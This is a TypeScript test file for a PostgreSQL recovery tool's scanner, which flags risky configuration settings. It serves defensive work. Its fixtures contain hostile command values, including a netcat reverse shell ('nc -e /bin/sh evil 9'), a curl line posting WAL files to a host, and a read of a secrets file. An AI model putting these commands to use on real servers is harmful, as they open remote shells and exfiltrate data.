import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { describeRisky, parseConf, riskySettings } from "../../../lib/pitr/commandSettings.js";
import { riskyServerSettings } from "../../../lib/pitr/configCheck.js";
import { OWN_SETTINGS, recoverySettings } from "../../../lib/pitr/recoveryConf.js";
import { tempDir } from "../../helpers.js";

const risky = (text: string) => riskySettings("postgresql.auto.conf", parseConf(text), OWN_SETTINGS).map((r) => [r.name, r.value]);

describe("riskySettings", () => {
  it.each<[string, string, [string, string][]]>([
    ["archive_command", "archive_command = 'curl -d @%p http://x'", [["archive_command", "curl -d @%p http://x"]]],
    ["no equals sign, upper case", "ARCHIVE_COMMAND 'sh -c id'", [["archive_command", "sh -c id"]]],
    ["no blanks", "ssl_passphrase_command='cat /run/secrets/key'", [["ssl_passphrase_command", "cat /run/secrets/key"]]],
    ["a doubled quote", "restore_command = 'sh -c ''id'''", [["restore_command", "sh -c 'id'"]]],
    ["an unquoted value", "shared_preload_libraries = evil", [["shared_preload_libraries", "evil"]]],
    ["a comment after the value", "session_preload_libraries = 'x' # nice", [["session_preload_libraries", "x"]]],
    ["each of the library settings", "local_preload_libraries = 'a'\njit_provider = 'b'\narchive_library = 'c'\ndynamic_library_path = '/tmp'", [["local_preload_libraries", "a"], ["jit_provider", "b"], ["archive_library", "c"], ["dynamic_library_path", "/tmp"]]],
    ["the recovery commands", "recovery_end_command = 'x'\narchive_cleanup_command = 'y'", [["recovery_end_command", "x"], ["archive_cleanup_command", "y"]]],
    ["files elsewhere", "hba_file = '/backups/hba'\nident_file = '/x'\ndata_directory = '/y'\nexternal_pid_file = '/z'", [["hba_file", "/backups/hba"], ["ident_file", "/x"], ["data_directory", "/y"], ["external_pid_file", "/z"]]],
    ["a line this parser cannot read, named by its first word", "archive_command = 'a' 'b'", [["archive_command", "= 'a' 'b'"]]],
    ["an include it cannot read", "include 'a' 'b'", [["include", "'a' 'b'"]]],
  ])("reports %s", (_what, text, expected) => {
    expect(risky(text)).toEqual(expected);
  });

  it.each<[string, string]>([
    ["commented out (initdb's postgresql.conf)", "#archive_command = ''\t\t# command to use\n#shared_preload_libraries = ''"],
    ["empty values", "archive_command = ''\nshared_preload_libraries = ''"],
    ["harmless settings", "port = 5432\nmax_connections = 100\nbasic_archive.archive_directory = '/backups/wal'\narchive_mode = on"],
    ["restore-pitr's own settings, from an earlier restore", recoverySettings(new Date("2024-01-10T12:00:00Z"), new Date())],
  ])("reports nothing for %s", (_what, text) => {
    expect(risky(text)).toEqual([]);
  });

  it("names file, line, setting, value and why", () => {
    const [r] = riskySettings("postgresql.auto.conf", parseConf("port = 1\narchive_command = 'nc -e /bin/sh evil 9'"), OWN_SETTINGS);
    expect(describeRisky(r!)).toBe(`postgresql.auto.conf:2 archive_command = "nc -e /bin/sh evil 9" (runs a shell command for every WAL segment)`);
  });
});

describe("parseConf", () => {
  it("collects include directives apart from settings", () => {
    expect(parseConf("include 'a.conf'\ninclude_if_exists = 'b.conf'\ninclude_dir 'conf.d'\nport = 1")).toEqual({
      settings: [{ line: 4, name: "port", value: "1" }],
      includes: [
        { line: 1, kind: "include", path: "a.conf" },
        { line: 2, kind: "include_if_exists", path: "b.conf" },
        { line: 3, kind: "include_dir", path: "conf.d" },
      ],
    });
  });
});

describe("riskyServerSettings (real files)", () => {
  it("reads postgresql.conf, postgresql.auto.conf and what they include inside the data directory", async () => {
    const dir = tempDir("pgsb-conf-");
    mkdirSync(join(dir, "conf.d"));
    writeFileSync(join(dir, "postgresql.conf"), "port = 5432\ninclude 'extra.conf'\ninclude_dir 'conf.d'\ninclude_if_exists 'missing.conf'\n");
    writeFileSync(join(dir, "extra.conf"), "shared_preload_libraries = 'evil'\n");
    writeFileSync(join(dir, "conf.d", "10-a.conf"), "archive_command = 'id'\n");
    writeFileSync(join(dir, "conf.d", "ignored.txt"), "ssl_passphrase_command = 'id'\n");
    writeFileSync(join(dir, "postgresql.auto.conf"), "ssl_passphrase_command = 'cat /run/secrets/x'\n");
    const r = await riskyServerSettings(dir, OWN_SETTINGS);
    expect(r.files).toEqual(["postgresql.conf", "extra.conf", "conf.d/10-a.conf", "postgresql.auto.conf"]);
    expect(r.findings.map((f) => [f.file, f.name])).toEqual([
      ["extra.conf", "shared_preload_libraries"],
      ["conf.d/10-a.conf", "archive_command"],
      ["postgresql.auto.conf", "ssl_passphrase_command"],
    ]);
  });

  it("reports an include from outside the data directory, and a symlinked configuration file", async () => {
    const dir = tempDir("pgsb-conf-");
    writeFileSync(join(dir, "postgresql.conf"), "include '/backups/evil.conf'\ninclude_dir '../elsewhere'\n");
    symlinkSync("/etc/hostname", join(dir, "postgresql.auto.conf"));
    const r = await riskyServerSettings(dir, OWN_SETTINGS);
    expect(r.findings.map((f) => [f.file, f.name, f.value, f.why])).toEqual([
      ["postgresql.conf", "include", "/backups/evil.conf", "includes configuration from outside the data directory, which the base backup does not hold"],
      ["postgresql.conf", "include_dir", "../elsewhere", "includes configuration from outside the data directory, which the base backup does not hold"],
      ["postgresql.auto.conf", "include", "postgresql.auto.conf", "not a regular file"],
    ]);
  });

  it("finds nothing where there is no configuration", async () => {
    expect(await riskyServerSettings(tempDir("pgsb-conf-"), OWN_SETTINGS)).toEqual({ findings: [], files: [] });
  });
});
